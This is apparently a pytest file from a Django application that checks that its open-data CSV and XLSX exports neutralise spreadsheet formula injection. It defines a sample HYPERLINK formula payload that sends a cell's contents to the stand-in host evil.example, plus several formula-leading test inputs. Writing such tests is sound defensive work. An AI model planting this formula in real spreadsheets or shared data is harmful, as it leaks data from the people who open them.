"""Open-data files never carry a live spreadsheet formula, whatever text went in."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from polyvox.lib.spreadsheets import csv_cell
from tests.conftest import World
from tests.results.conftest import Results, add_ballot
from tests.results.test_downloads import csv_rows, download
from tests.results.test_pages import publish

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        ("", ""),
        (-0.5, -0.5),  # numbers stay numbers
    ],
)
def test_text_that_starts_like_a_formula_is_made_inert(
    text: str | float, written: str | float
) -> None:
    assert csv_cell(text) == written


@pytest.mark.django_db
class TestOpenData:
    @pytest.fixture
    def payload_in_answers(self, results: Results, world: World) -> None:
        publish(results)
        # Ten people of Lyon share the value, a group of at least k: it is published.
        for _ in range(10):
            add_ballot(
                world.own_other_site,
                results.agree,
                results.option["no"],
                categories={"note": PAYLOAD},
            )

    def test_the_csv_prefixes_formula_text_with_an_apostrophe(
        self, client: Client, payload_in_answers: None
    ) -> None:
        rows, _readme = csv_rows(download(client, "answers", "csv"), "answers.csv")
        notes = {row["note"] for row in rows if row["site"] == "lyon"}
        assert "'" + PAYLOAD in notes
        assert PAYLOAD not in notes

    def test_the_xlsx_stores_formula_text_as_text(
        self, client: Client, payload_in_answers: None
    ) -> None:
        content = download(client, "answers", "xlsx").content
        sheet = load_workbook(io.BytesIO(content))["answers"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == PAYLOAD]
        assert cells
        assert {cell.data_type for cell in cells} == {"s"}
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
